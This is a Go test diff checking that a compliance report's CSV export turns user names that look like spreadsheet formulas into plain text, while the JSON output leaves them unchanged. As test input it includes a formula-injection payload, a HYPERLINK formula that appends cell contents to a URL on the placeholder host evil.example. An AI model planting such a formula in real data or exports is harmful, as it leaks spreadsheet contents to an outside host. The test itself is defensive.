@@ -161,3 +161,43 @@ func TestReportAndVerifyInput(t *testing.T) {
 	}
 	_ = dormancy.ReasonAdmin
 }
+
+// Names come from users: in the CSV a name a spreadsheet would run as a
+// formula is text (a leading apostrophe); the JSON keeps it as it is.
+func TestReportCSVKeepsFormulasAsText(t *testing.T) {
+	f := newFixture(t)
+	formula := `=HYPERLINK("https://evil.example/?"&A1,"open")`
+	f.user(t, "f1", formula, nil, 60)
+	f.user(t, "f2", "@SUM(1+1)", nil, 60)
+	r := f.call(t, admin, "GET", "/reports/compliance", "")
+	names := map[string]bool{}
+	for _, u := range r.Body["pastThreshold"].([]any) {
+		names[u.(map[string]any)["username"].(string)] = true
+	}
+	if !names[formula] || !names["@SUM(1+1)"] {
+		t.Errorf("JSON names %v: want them as they are", names)
+	}
+	resp, err := f.api.HandleProxy(context.Background(), events.APIGatewayProxyRequest{HTTPMethod: "GET", Path: "/reports/compliance",
+		Headers: map[string]string{"Accept": "text/csv"}, RequestContext: events.APIGatewayProxyRequestContext{Authorizer: map[string]any{"claims": admin}}})
+	if err != nil || resp.StatusCode != 200 {
+		t.Fatalf("CSV: %v %d", err, resp.StatusCode)
+	}
+	cr := csv.NewReader(strings.NewReader(resp.Body))
+	cr.FieldsPerRecord = -1
+	rows, err := cr.ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string]bool{}
+	for _, row := range rows {
+		for _, cell := range row {
+			if strings.ContainsAny(cell[:min(len(cell), 1)], "=+-@") {
+				t.Errorf("a cell a spreadsheet would evaluate: %q", cell)
+			}
+			got[cell] = true
+		}
+	}
+	if !got["'"+formula] || !got["'@SUM(1+1)"] {
+		t.Errorf("the names are not in the CSV as text:\n%s", resp.Body)
+	}
+}
